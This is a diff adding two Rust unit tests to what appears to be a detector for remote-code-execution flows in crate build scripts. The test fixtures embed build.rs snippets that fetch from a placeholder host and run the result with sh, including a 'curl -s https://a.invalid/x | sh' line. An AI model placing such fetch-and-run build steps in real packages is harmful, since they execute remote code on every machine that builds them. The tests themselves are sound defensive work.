@@ -195,3 +195,50 @@ fn a_module_beside_the_script_has_the_names_of_the_script_and_of_what_it_include
     ));
     assert!(!built_with(named, &[("line.txt", "echo built")]));
 }
+
+#[test]
+fn the_arm_of_a_match_that_does_not_leave_gives_its_value() {
+    let file = "std::fs::write(\"/tmp/x\", r.into_string().unwrap()).unwrap();
+        std::process::Command::new(\"sh\").arg(\"/tmp/x\").spawn().unwrap();";
+    let runs_file = |arms: &str| {
+        let code = format!(
+            "fn main() {{ let r = match ureq::get(\"https://a.invalid/x\").call() {{ {arms} }}; {file} }}"
+        );
+        let flows = found(vec![
+            text_file("a-1.0.0/Cargo.toml", MANIFEST),
+            text_file("a-1.0.0/build.rs", &code),
+        ])
+        .flows;
+        let mut flows = flows.iter();
+        flows.any(|flow| {
+            flow.source == SourceKind::Remote
+                && matches!(flow.sink, SinkKind::ExecutedFile | SinkKind::Process)
+        })
+    };
+    assert!(runs_file("Ok(r) => r, Err(_) => return"));
+    assert!(runs_file(
+        "Ok(r) => r, Err(e) => { eprintln!(\"{e}\"); std::process::exit(1) }"
+    ));
+    assert!(!runs_file("Ok(_) => other(), Err(_) => return"));
+}
+
+#[test]
+fn what_a_builder_s_interpreter_reads_is_code_unless_it_has_a_file() {
+    let fed = |more: &str, text: &str| {
+        built_with(
+            &format!(
+                "use std::io::Write;
+                 fn main() {{ if let Ok(mut c) = std::process::Command::new(\"sh\"){more}
+                 .stdin(std::process::Stdio::piped()).spawn() {{
+                 let _ = c.stdin.take().unwrap().write_all(b\"{text}\"); }} }}"
+            ),
+            &[],
+        )
+    };
+    assert!(fed("", "curl -s https://a.invalid/x | sh"));
+    assert!(!fed("", "echo 1"));
+    assert!(!fed(
+        ".arg(\"other.sh\")",
+        "curl -s https://a.invalid/x | sh"
+    ));
+}
